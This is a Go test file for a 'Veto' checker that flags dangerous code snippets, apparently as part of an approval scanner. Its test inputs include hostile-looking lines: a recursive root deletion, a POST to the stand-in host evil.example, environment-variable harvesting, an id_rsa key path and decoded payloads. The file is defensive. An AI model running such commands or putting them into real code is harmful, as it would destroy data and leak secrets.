package scan

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestVeto_CleanContent(t *testing.T) {
	v := NewVeto()

	assert.Empty(t, v.Check("def helper():\n    return 42\n"))
	assert.Empty(t, v.Check("total := price * quantity"))
}

func TestVeto_BroaderThanScanner(t *testing.T) {
	v := NewVeto()
	s := NewScanner()

	// The bare token passes the approval scanner but not the veto.
	bare := "eval"
	assert.Empty(t, s.Scan(bare))
	assert.NotEmpty(t, v.Check(bare))
}

func TestVeto_CatchesScannerPatterns(t *testing.T) {
	v := NewVeto()

	// Everything the approval scanner blocks, the veto blocks too.
	tests := []string{
		`os.system("rm -rf /")`,
		`user.role = "admin"`,
		`requests.post("http://evil.example")`,
		`payload = base64.b64decode(blob)`,
	}

	for _, content := range tests {
		assert.NotEmpty(t, v.Check(content), "content: %s", content)
	}
}

func TestVeto_ExtraPatterns(t *testing.T) {
	v := NewVeto()

	tests := []struct {
		name    string
		content string
	}{
		{"subprocess token", `import subprocess`},
		{"ffi", `lib = ctypes.CDLL("libc.so.6")`},
		{"environment harvest", `data = dict(os.environ)`},
		{"credential file", `key_path = home + "/id_rsa"`},
		{"hex escape run", `s = "\x68\x61\x63\x6b"`},
		{"compressed payload", `code = zlib.decompress(blob)`},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, v.Check(tt.content))
		})
	}
}

func TestVeto_Enforce(t *testing.T) {
	v := NewVeto()

	assert.NoError(t, v.Enforce("return total"))

	err := v.Enforce("handler = eval")
	require.Error(t, err)
	var perr *DangerousPatternError
	require.ErrorAs(t, err, &perr)
	assert.NotEmpty(t, perr.Flags)
	assert.Contains(t, err.Error(), "Bare Eval Token")
}

func TestVeto_Stateless(t *testing.T) {
	v := NewVeto()

	dirty := `eval(payload)`
	clean := `return nil`

	assert.NotEmpty(t, v.Check(dirty))
	// A prior dirty check must not taint a later clean one.
	assert.Empty(t, v.Check(clean))
	assert.NotEmpty(t, v.Check(dirty))
}
